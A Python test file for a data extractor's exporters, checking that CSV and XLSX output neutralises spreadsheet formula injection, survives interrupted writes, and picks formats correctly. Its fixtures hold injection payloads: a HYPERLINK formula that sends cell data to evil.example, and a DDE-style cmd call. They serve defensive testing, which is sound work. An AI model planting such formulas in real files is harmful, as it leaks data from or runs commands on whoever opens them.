"""Exports under attack and under a kill: hostile text never becomes a formula, a half-written file never
replaces a whole one, and the writers keep their streaming promise."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from tables import build

from extractor import Issue, _export, chunk_to_record, recheck
from extractor._export import export

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "+1-2",
    "file": '=HYPERLINK("http://evil.example").docx',
}
AUDIT = [
    {
        "file": HOSTILE["file"],
        "table": 1,
        "item": 3,
        "action": "set",
        "code": "missing_value",
        "field": "implementing_unit",
        "old_value": "-2+3",
        "new_value": " =1+1",
        "who": "\t=cmd",
        "at": "2026-01-01T00:00:00+00:00",
        "undone_at": None,
    },
    {
        "file": "ok.docx",
        "table": 2,
        "item": 4,
        "action": "set",
        "code": "unit_suspect",
        "field": "amount_unit",
        "old_value": "#N/A",
        "new_value": "\r@x",
        "who": "alice",
        "at": "2026-01-01T00:00:01+00:00",
        "undone_at": None,
    },
]


def _records(n: int = 3):
    out = []
    for k in range(n):
        chunk = build(
            name=HOSTILE["name"],
            department=HOSTILE["department"],
            unit=HOSTILE["unit"],
            file=HOSTILE["file"],
            index=k + 1,
        )
        record = chunk_to_record(chunk).record
        recheck(record)
        out.append((record, k % 2 == 0))
    return out


def test_xlsx_writes_hostile_text_as_strings_never_formulas(tmp_path):
    out = tmp_path / "x.xlsx"
    export(_records(), out, "xlsx", audit=AUDIT)
    wb = openpyxl.load_workbook(out)
    assert set(wb.sheetnames) == {"records", "indicators", "issues", "audit", "说明"}
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                seen.append(cell.value)
    for text in (HOSTILE["name"], HOSTILE["department"], HOSTILE["unit"], HOSTILE["file"], " =1+1", "#N/A"):
        assert text in seen, text  # the value as read, not mangled
    records = wb["records"]
    header = [c.value for c in records[1]]
    first = [c.value for c in records[2]]
    assert first[header.index("年度资金总额·年初预算数")] == 120.5  # numbers stay numbers
    assert first[header.index("已复核")] is True


def test_xlsx_keeps_control_characters_visible_instead_of_failing(tmp_path):
    records = _records(1)
    records[0][0].project_name = "a\x1b[2Jb\x07"
    out = tmp_path / "ctl.xlsx"
    export(records, out, "xlsx")
    values = [c.value for c in openpyxl.load_workbook(out)["records"][2]]
    assert "a\\x1b[2Jb\\x07" in values


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("  =x", "'  =x"),
        (" \t+x", "' \t+x"),
        ("100%", "100%"),
        ("项目", "项目"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert _export.neutralise(value) == expected


def test_csv_and_its_audit_neutralise_formulas_and_keep_numbers(tmp_path):
    out = tmp_path / "x.csv"
    export(_records(), out, "csv", audit=AUDIT)
    rows = list(csv.DictReader(open(out, encoding="utf-8-sig", newline="")))
    assert rows and all(r["file"] == "'" + HOSTILE["file"] for r in rows)
    assert {r["project_name"] for r in rows} == {"'" + HOSTILE["name"]}
    assert {r["department"] for r in rows} == {"'" + HOSTILE["department"]}
    assert {r["implementing_unit"] for r in rows} == {"'" + HOSTILE["unit"]}
    assert {r["total.initial_budget"] for r in rows} == {"120.5"}
    trail = list(csv.DictReader(open(tmp_path / "x.audit.csv", encoding="utf-8-sig", newline="")))
    assert [(a["old_value"], a["new_value"], a["who"]) for a in trail] == [
        ("'-2+3", "' =1+1", "'\t=cmd"),
        ("#N/A", "'\r@x", "alice"),
    ]
    for row in [*rows, *trail]:
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@")) or value.startswith("'"), value


def test_jsonl_keeps_values_exactly(tmp_path):
    out = tmp_path / "x.jsonl"
    export(_records(1), out, "jsonl", audit=AUDIT)
    data = json.loads(out.read_text("utf-8"))
    assert data["project_name"] == HOSTILE["name"] and data["source"]["file"] == HOSTILE["file"]
    trail = [json.loads(line) for line in (tmp_path / "x.audit.jsonl").read_text("utf-8").splitlines()]
    assert trail[0]["new_value"] == " =1+1"


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "xlsx"])
def test_an_export_that_dies_midway_leaves_the_previous_one(tmp_path, fmt):
    out = tmp_path / f"all.{fmt}"
    export(_records(4), out, fmt, audit=AUDIT)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def dying():
        yield from _records(2)
        raise KeyboardInterrupt  # what a kill does to the writer, short of killing the test

    with pytest.raises(KeyboardInterrupt):
        export(dying(), out, fmt, audit=AUDIT[:1])
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before  # no temp left, nothing replaced


def test_each_record_row_is_computed_once_and_xlsx_is_never_reloaded(tmp_path, monkeypatch):
    calls = []
    real = _export.record_row  # the XLSX writer is handed _export's, so patching it there counts both
    monkeypatch.setattr(_export, "record_row", lambda *a: calls.append(1) or real(*a))

    def no_reload(*a, **k):
        raise AssertionError("the XLSX writer must not load the workbook back")

    monkeypatch.setattr(openpyxl, "load_workbook", no_reload)
    monkeypatch.setattr("openpyxl.reader.excel.load_workbook", no_reload)
    export(_records(5), tmp_path / "x.xlsx", "xlsx", audit=AUDIT)
    assert len(calls) == 5
    calls.clear()
    export(_records(5), tmp_path / "x.csv", "csv")
    assert len(calls) == 5


def test_the_password_hasher_does_no_work_at_import():
    """The dummy hash (for unknown names) is made on first use, not when the web app or CLI imports the module."""
    code = (
        "import argon2\n"
        "calls = []\n"
        "real = argon2.PasswordHasher.hash\n"
        "argon2.PasswordHasher.hash = lambda self, p, **k: calls.append(1) or real(self, p, **k)\n"
        "import extractor.review._passwords as p\n"
        "print(len(calls))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "0"


@pytest.mark.parametrize(
    "name, fmt, expected",
    [
        ("all.xlsx", None, "xlsx"),
        ("all.CSV", None, "csv"),
        ("all.jsonl", None, "jsonl"),
        ("a.ndjson", None, "jsonl"),
        ("all.dat", "csv", "csv"),
        ("all.xlsx", "xlsx", "xlsx"),
    ],
)
def test_the_format_follows_the_name(name, fmt, expected):
    assert _export.format_for(Path(name), fmt) == expected


@pytest.mark.parametrize(
    "name, fmt, words",
    [
        ("all.txt", None, "cannot tell the export format of all.txt"),
        ("all.xlsx", "jsonl", "--format jsonl does not match the name all.xlsx"),
    ],
)
def test_a_name_that_says_no_format_or_another_is_refused(name, fmt, words):
    with pytest.raises(_export.ExportError, match=words):
        _export.format_for(Path(name), fmt)


def test_cli_export_refuses_unknown_names_and_missing_folders_with_a_message(tmp_path):
    from click.testing import CliRunner

    from cli import main

    runner = CliRunner()
    xlsx = runner.invoke(main, ["export", "-o", str(tmp_path / "all.xlsx")])
    assert xlsx.exit_code == 0 and zipfile_ok(tmp_path / "all.xlsx")  # an XLSX, not JSONL under an .xlsx name
    assert not (tmp_path / "all.audit.xlsx").exists()
    for args, words in (
        (["-o", str(tmp_path / "no" / "such" / "x.csv")], "the folder"),
        (["-o", str(tmp_path / "x.txt")], "cannot tell the export format"),
    ):
        out = runner.invoke(main, ["export", *args])
        assert out.exit_code == 2 and words in out.output and "Traceback" not in out.output, out.output


def zipfile_ok(path) -> bool:
    import zipfile

    return zipfile.is_zipfile(path)


def test_csv_writes_booleans_as_true_false(tmp_path):
    out = tmp_path / "x.csv"
    export(_records(2), out, "csv")
    rows = list(csv.DictReader(open(out, encoding="utf-8-sig", newline="")))
    assert [r["reviewed"] for r in rows if r["indicator"] == "1"] == ["true", "false"]


def test_xlsx_sheets_have_widths_a_frozen_header_a_filter_and_a_dictionary(tmp_path):
    from extractor._export_columns import COLUMNS

    records = _records(2)
    records[0][0].issues.append(Issue(code="missing_value", field="year", message="年度 is blank"))
    out = tmp_path / "x.xlsx"
    export(records, out, "xlsx", audit=AUDIT)
    wb = openpyxl.load_workbook(out)
    for title in ("records", "indicators", "issues", "audit", "说明"):
        ws = wb[title]
        assert ws.freeze_panes == "A2", title
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}", title
        assert ws.column_dimensions["A"].width > 0
    records_ws = wb["records"]
    widths = {c.value: records_ws.column_dimensions[c.column_letter].width for c in records_ws[1]}
    assert widths["项目名称"] > widths["年度"]
    info = [[c.value for c in row] for row in wb["说明"].iter_rows(min_row=2)]
    keys = {(sheet, key) for sheet, _, key, _ in info}
    assert ("records", "project_name") in keys and ("issues", "candidates") in keys and ("audit", "who") in keys
    # every header of every sheet is explained, by the header shown
    for title in ("records", "indicators", "issues", "audit"):
        shown = [c.value for c in wb[title][1]]
        assert shown == [header for sheet, header, _, _ in info if sheet == title]
    assert all(meaning for *_, meaning in info) and len(COLUMNS) >= len({k for _, k in keys})
    issues = [[c.value for c in row] for row in wb["issues"].iter_rows(min_row=2)]
    header = [c.value for c in wb["issues"][1]]
    assert "null" not in [row[header.index("候选值")] for row in issues]  # no candidates: a blank cell
